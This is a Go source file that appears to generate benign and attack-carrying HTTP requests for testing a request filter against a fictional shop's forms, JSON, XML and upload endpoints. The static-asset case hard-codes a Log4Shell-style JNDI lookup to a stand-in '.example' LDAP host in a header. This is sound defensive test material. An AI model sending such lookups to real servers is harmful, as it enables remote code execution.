package mix

import (
	"bytes"
	"encoding/json"
	"fmt"
	"net/url"
	"strconv"
	"strings"
)

// Case is a kind of request. Its requests are benign, or carry an attack, which is part of what attack is put into.
type Case struct {
	Name string
	make func(s Source, attack string) Request
}

// Cases are all kinds.
func Cases() []Case {
	return []Case{
		{"static", static}, {"search", search}, {"form", form}, {"json340", smallJSON}, {"json9k", largeJSON}, {"multipart100k", multipart}, {"xml10k", xml},
	}
}

// Benign are n distinct requests, others for another seed.
func (c Case) Benign(n int, seed uint64) []Request {
	return c.requests(n, NewSource(seed), func(Source) string { return "" })
}

// Fresh are as Benign, but for names of fields and browsers that never come again.
func (c Case) Fresh(n int, seed uint64) []Request {
	s := NewSource(seed)
	s.fresh = true
	return c.requests(n, s, func(Source) string { return "" })
}

// Attacks are n distinct requests with an attack each, others for another seed.
func (c Case) Attacks(n int, seed uint64) []Request {
	return c.requests(n, NewSource(seed), Source.Attack)
}

func (c Case) requests(n int, s Source, attack func(Source) string) []Request {
	out := make([]Request, n)
	for i := range out {
		out[i] = c.make(s, attack(s))
	}
	return out
}

// Request is one as browsers send them.
func (s Source) Request(method, target, contentType string, body []byte) Request {
	headers := []Header{
		{"Host", "shop.example.com"},
		{"User-Agent", s.name(fmt.Sprintf("Mozilla/5.0 (X11; Linux x86_64; rv:%d.0) Gecko/20100101 Firefox/%d.0", 110+s.IntN(30), 110+s.IntN(30)))},
		{"Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"},
		{"Accept-Language", "en-GB,en;q=0." + strconv.Itoa(1+s.IntN(9))},
		{"Accept-Encoding", "gzip, deflate, br"},
		{"Referer", "https://shop.example.com/" + s.Word() + "/" + s.Word()},
		{"Cookie", "session=" + s.Hex(32) + "; theme=" + s.Word() + "; cart=" + strconv.Itoa(s.IntN(1_000_000))},
		{"Connection", "keep-alive"},
	}
	if body != nil {
		headers = append(headers, Header{"Content-Type", contentType}, Header{"Content-Length", strconv.Itoa(len(body))})
	}
	return Request{Method: method, Target: target, Headers: headers, Body: body}
}

func static(s Source, attack string) Request {
	r := s.Request("GET", fmt.Sprintf("/assets/%s/%s-%s.js", s.Word(), s.Word(), s.Hex(8)), "", nil)
	if attack != "" { // there is no argument: in a header
		r.Headers = append(r.Headers, Header{"X-Api-Version", attack}, Header{"X-Forwarded-For", "${jndi:ldap://" + s.Word() + ".example/a}"})
	}
	return r
}

// or is the attack if there is one.
func or(attack, benign string) string {
	if attack != "" {
		return attack
	}
	return benign
}

func search(s Source, attack string) Request {
	q := url.Values{
		s.name("q"): {or(attack, s.Text(1+s.IntN(4)))}, s.name("page"): {strconv.Itoa(1 + s.IntN(30))}, s.name("sort"): {s.Word()},
		s.name("category"): {s.Word() + "-" + s.Word()},
	}
	return s.Request("GET", "/search?"+q.Encode(), "", nil)
}

func form(s Source, attack string) Request {
	v := url.Values{
		s.name("name"): {s.Word() + " " + s.Word()}, s.name("email"): {s.Word() + "@example.com"}, s.name("subject"): {s.Text(4)},
		s.name("message"): {or(attack, s.Text(25+s.IntN(20)))}, s.name("csrf_token"): {s.Hex(40)}, s.name("newsletter"): {"on"},
	}
	return s.Request("POST", "/contact", "application/x-www-form-urlencoded", []byte(v.Encode()))
}

// item is an article in a cart.
func (s Source) item(note string) map[string]any {
	return map[string]any{
		s.name("sku"): s.Hex(10), s.name("title"): s.Text(3), s.name("quantity"): 1 + s.IntN(9),
		s.name("price"): float64(s.IntN(20_000)) / 100, s.name("gift"): s.IntN(2) == 0, s.name("note"): note,
	}
}

func document(v any) []byte {
	b, err := json.Marshal(v)
	if err != nil {
		panic(err) // of what is made here, seen by every test
	}
	return b
}

func smallJSON(s Source, attack string) Request {
	body := document(map[string]any{"cart": s.Hex(16), "items": []any{s.item(s.Text(5)), s.item(or(attack, s.Text(6)))}, "coupon": s.Word()})
	return s.Request("POST", "/api/cart", "application/json", body)
}

func largeJSON(s Source, attack string) Request {
	const size = 9 << 10
	var items []any
	for n := 0; n < size; {
		item := s.item(s.Text(6 + s.IntN(8)))
		items = append(items, item)
		n += len(document(item)) + 1
	}
	items[s.IntN(len(items))] = s.item(or(attack, s.Text(6)))
	return s.Request("POST", "/api/orders", "application/json", document(map[string]any{"order": s.Hex(16), "items": items}))
}

func multipart(s Source, attack string) Request { return upload(s, attack, 100<<10) }

// upload is one of a photo of so many bytes.
func upload(s Source, attack string, size int) Request {
	boundary := "----boundary" + s.Hex(16)
	var b bytes.Buffer
	field := func(disposition, value string) {
		fmt.Fprintf(&b, "--%s\r\nContent-Disposition: form-data; %s\r\n\r\n%s\r\n", boundary, disposition, value)
	}
	field(`name="title"`, s.Text(5))
	field(`name="description"`, or(attack, s.Text(30)))
	field(fmt.Sprintf("name=\"photo\"; filename=\"%s-%s.jpg\"\r\nContent-Type: image/jpeg", s.Word(), s.Hex(4)), string(s.Bytes(size)))
	b.WriteString("--" + boundary + "--\r\n")
	return s.Request("POST", "/upload", "multipart/form-data; boundary="+boundary, b.Bytes())
}

func xml(s Source, attack string) Request {
	const size = 10 << 10
	escape := strings.NewReplacer("&", "&amp;", "<", "&lt;", ">", "&gt;").Replace
	var b strings.Builder
	b.WriteString(`<?xml version="1.0" encoding="UTF-8"?><order id="` + s.Hex(8) + `">`)
	attacked := attack == ""
	for b.Len() < size {
		note := s.Text(5 + s.IntN(10))
		if !attacked && b.Len() > size/2 {
			note, attacked = escape(attack), true
		}
		fmt.Fprintf(&b, `<item sku="%s"><title>%s</title><quantity>%d</quantity><note>%s</note></item>`, s.Hex(10), s.Text(3), 1+s.IntN(9), note)
	}
	b.WriteString("</order>")
	return s.Request("POST", "/api/import", "application/xml", []byte(b.String()))
}
